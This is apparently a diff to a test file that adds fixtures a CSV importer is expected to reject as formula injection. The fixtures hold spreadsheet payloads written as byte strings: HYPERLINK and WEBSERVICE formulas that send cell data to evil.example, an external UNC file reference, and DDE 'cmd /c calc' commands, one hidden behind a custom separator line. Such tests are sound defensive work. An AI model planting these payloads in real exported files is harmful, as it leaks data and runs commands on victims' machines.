@@ -72,6 +72,26 @@ def another_program() -> bytes:
     return b"name,amount\nA,@SUM(1)|cmd!A0\nB,+cmd|'/c calc'!A0\n"
 
 
+@refused("formula", "values.csv")
+def function_behind_a_value() -> bytes:
+    return b'name,amount\nA,+A1+HYPERLINK("https://evil.example/"&A1)\n'
+
+
+@refused("formula", "values.csv")
+def function_within_brackets() -> bytes:
+    return b'name,amount\nA,-(WEBSERVICE("https://evil.example/"))\n'
+
+
+@refused("formula", "values.csv")
+def cell_of_another_file() -> bytes:
+    return b"name,amount\nA,+'\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1\n"
+
+
+@refused("formula", "values.csv")
+def separator_of_its_own() -> bytes:
+    return b"sep=^\r\nA^=cmd|'/c calc'!A0\r\n"
+
+
 @refused("not_accepted", "values.csv")
 def binary_values() -> bytes:
     return b"a,b\n\0\1\2,\3"
